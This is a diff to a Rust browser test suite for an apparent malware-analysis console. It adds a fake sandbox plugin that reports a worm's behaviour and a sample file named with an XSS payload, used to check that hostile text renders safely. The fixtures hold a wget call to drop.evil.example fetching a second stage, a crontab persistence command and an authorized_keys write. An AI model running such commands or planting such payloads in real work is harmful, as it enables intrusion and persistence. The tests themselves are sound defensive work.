@@ -1,7 +1,10 @@
 //! The console in a real browser: the main jobs, hostile texts that must stay text, and pictures of every page.
 
 mod browser;
+mod crowded;
 mod schema;
+mod through_gate;
+pub(crate) mod visitor;
 
 use crate::control::gate::{Client, Site, Up, wait_for};
 use browser::Browser;
@@ -32,6 +35,52 @@ const EICAR: [&str; 2] = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIV
 
 /// The demonstration would look for a free port for mail from outside, and tests beside this one might take it first.
 const INBOUND: &str = "[inbound]\nlisten = [\"127.0.0.1:0\"]\ndomains = [\"demo.test\"]\nrecipients = \"any\"\n";
+
+/// A plugin that says what a VM would have seen of a worm, full of tricks.
+const ACTS: &str = r#"import json
+text = open("input/attachment", "rb").read()
+tricks = TRICKS
+if b"worm" not in text:
+    json.dump({"success": True}, open("output/output.json", "w"))
+    raise SystemExit
+start = [{"pid": 100, "parent": 1, "path": "/tmp/sample", "arguments": ["/tmp/sample"], "user": 1000, "ended": "exit 0"},
+         {"pid": 101, "parent": 100, "path": "/bin/sh", "arguments": ["sh", "-c", "crontab -l | cat - /tmp/.x | crontab -"], "user": 1000, "ended": "exit 0"},
+         {"pid": 102, "parent": 101, "path": "/usr/bin/crontab", "arguments": ["crontab", "-l"], "user": 1000, "ended": "exit 1"},
+         {"pid": 103, "parent": 101, "path": "/bin/cat", "arguments": ["cat", "-", "/tmp/.x"], "user": 1000, "ended": "exit 0"},
+         {"pid": 104, "parent": 100, "path": "/usr/bin/wget", "arguments": ["wget", "-q", "http://drop.evil.example/stage2"], "user": 1000, "ended": "signal 9"},
+         {"pid": 105, "parent": 104, "path": "/tmp/stage2", "arguments": ["./stage2", "x" * 5000], "user": 0, "ended": ""}]
+start += [{"pid": 200 + n, "parent": 199 + n if n else 105, "path": trick, "arguments": [trick], "ended": trick} for n, trick in enumerate(tricks)]
+start += [{"pid": 1000 + n, "parent": 100, "path": "/bin/true"} for n in range(1500)]
+full = {"machine": "linux-1", "accelerator": "kvm", "ended": "exit 0", "processes": start,
+        "files": [{"path": "/tmp/.x", "what": "written", "bytes": 41, "sha256": "ab" * 32},
+                  {"path": "/home/user/.ssh/authorized_keys", "what": "written", "bytes": 402, "sha256": "cd" * 32}]
+                 + [{"path": trick, "what": "deleted"} for trick in tricks],
+        "network": [{"pid": 104, "what": "dns", "to": "drop.evil.example", "detail": ""},
+                    {"pid": 104, "what": "connect", "to": "198.51.100.4:80", "detail": "refused: nobody is there"}]
+                   + [{"pid": 105, "what": trick, "to": trick, "detail": trick} for trick in tricks],
+        "persistence": [{"path": "/var/spool/cron/crontabs/user", "what": "cron"}, {"path": tricks[1], "what": tricks[2]}]}
+findings = [{"level": "malicious", "namespace": "acts", "predicate": "stays", "value": "it writes a line into a crontab"},
+            {"level": "suspicious", "namespace": "acts", "predicate": "reaches", "value": "drop.evil.example"}]
+findings += [{"level": "suspicious", "namespace": trick, "predicate": trick, "value": trick} for trick in tricks]
+json.dump({"success": True, "full": full, "summary": {"taxonomies": findings},
+           "artifacts": [{"dataType": "domain", "data": "drop.evil.example"}, {"dataType": "url", "data": "http://drop.evil.example/stage2"}]},
+          open("output/output.json", "w"))
+"#;
+
+/// A folder with that plugin.
+fn plugins() -> tempfile::TempDir {
+    use std::os::unix::fs::PermissionsExt;
+    let folder = tempfile::tempdir().expect("a folder");
+    let home = folder.path().join("acts");
+    std::fs::create_dir(&home).expect("a folder");
+    let tricks = serde_json::json!(TRICKS).to_string();
+    let program = format!("#!/usr/bin/python3\n{}", ACTS.replace("TRICKS", &tricks));
+    std::fs::write(home.join("run"), program).expect("a plugin");
+    std::fs::set_permissions(home.join("run"), std::fs::Permissions::from_mode(0o755)).expect("a plugin");
+    let manifest = "name = \"acts\"\nversion = \"1\"\nexec = [\"./run\"]\n";
+    std::fs::write(home.join("plugin.toml"), manifest).expect("a manifest");
+    folder
+}
 
 /// Where pictures go.
 fn album() -> PathBuf {
@@ -232,9 +281,9 @@ fn the_main_jobs_are_done_in_a_browser() {
     browser.goto(&format!("{console}/lab"));
     nothing_ran(&browser);
     browser.find("table tbody a").click();
-    browser.says("Report of identify");
+    browser.says("What the plugins say");
     browser.says("text/x-shellscript");
-    browser.says("It has ended as done");
+    browser.says("Raw reports");
     nothing_ran(&browser);
     let hash = site.json(&["lab", "list"])[0]["hash"].as_str().expect("a hash").to_owned();
     browser.find(".search input").write(&format!("{}\u{e007}", &hash[..12]));
@@ -367,7 +416,8 @@ fn limits_are_tuned_in_a_browser() {
 
 #[test]
 fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
-    let site = Site::new(INBOUND);
+    let plugins = plugins();
+    let site = Site::new(&format!("{INBOUND}[lab]\nplugins = {:?}\n", plugins.path()));
     let up = site.up_with(&["--demo"]);
     let quiet = Browser::start();
     let console = format!("http://{}", up.listener("console"));
@@ -385,8 +435,16 @@ fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
     attacks_by_mail(&site, &up);
     let sample = site.home().join("invoice.sh");
     std::fs::write(&sample, "#!/bin/sh\necho hello\n").expect("a sample");
-    site.weir(&["lab", "submit", sample.to_str().expect("text"), "/bin/true"]).ok();
-    wait_for("the reports", || (site.json(&["lab", "list"])[0]["state"] == "done").then_some(()));
+    let worm = site.home().join("<svg onload=window.ran=50>.sh");
+    std::fs::write(&worm, "#!/bin/sh\n# a worm\nwget http://drop.evil.example/stage2\n").expect("a sample");
+    let program = PathBuf::from("/bin/true");
+    let samples = [&sample, &program, &worm].map(|file| file.to_str().expect("text"));
+    site.weir(&[&["lab", "submit"], &samples[..]].concat()).ok();
+    wait_for("the reports", || {
+        let list = site.json(&["lab", "list"]);
+        list.as_array()?.iter().all(|sample| !sample["ended_at"].is_null()).then_some(())
+    });
+    site.weir(&["scan", "rules", "add", "--sample", "3"]).ok();
     // The stream keeps the page current without loading it again.
     browser.goto(&console);
     assert!(!browser.text().contains("wait for the web servers"));
@@ -407,6 +465,9 @@ fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
         ("web", "/web".to_owned()),
         ("lab", "/lab".to_owned()),
         ("sample", "/lab/samples/1".to_owned()),
+        ("sample-program", "/lab/samples/2".to_owned()),
+        ("sample-malware", "/lab/samples/3".to_owned()),
+        ("rules", "/rules".to_owned()),
         ("search", "/search?q=demo".to_owned()),
         ("audit", "/audit".to_owned()),
         ("settings", "/settings".to_owned()),
